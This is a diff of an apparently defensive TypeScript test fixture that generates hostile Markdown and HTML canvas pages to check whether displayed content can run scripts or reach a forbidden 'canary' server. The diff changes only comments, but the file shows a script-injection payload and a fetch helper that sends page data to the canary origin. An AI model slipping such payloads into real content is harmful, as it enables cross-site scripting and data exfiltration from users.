@@ -1,9 +1,9 @@
 /**
- * Content that tries to run a script or to send a request where it is shown. `canary` is the origin
- * of a server that nothing shown may reach. A script that runs calls `alert`.
+ * Content that tries to run a script or to send a request when it is displayed. `canary` is the
+ * origin of a server that must get no request. A script that runs calls `alert`.
  */
 
-/** Markdown as a model, a user or a document may write it, by what it tries. */
+/** Markdown that a model, a user or a document may write, by the attack. */
 export function hostileMarkdown(canary: string): Record<string, string> {
   return {
     "script element": `<script>alert(1);fetch("${canary}/script")</script>`,
@@ -45,7 +45,7 @@ export function hostileMarkdown(canary: string): Record<string, string> {
   };
 }
 
-/** Pages that try to leave their canvas, by what they try. Each is a whole HTML canvas. */
+/** Pages that try to leave their canvas, by the attack. Each is a whole HTML canvas. */
 export function canvasAttempts(canary: string): Record<string, string> {
   const script = (code: string) => `<p>canvas</p><script>try { ${code} } catch {}</script>`;
   const report = (what: string) => `fetch("${canary}/leak?" + encodeURIComponent(${what}))`;
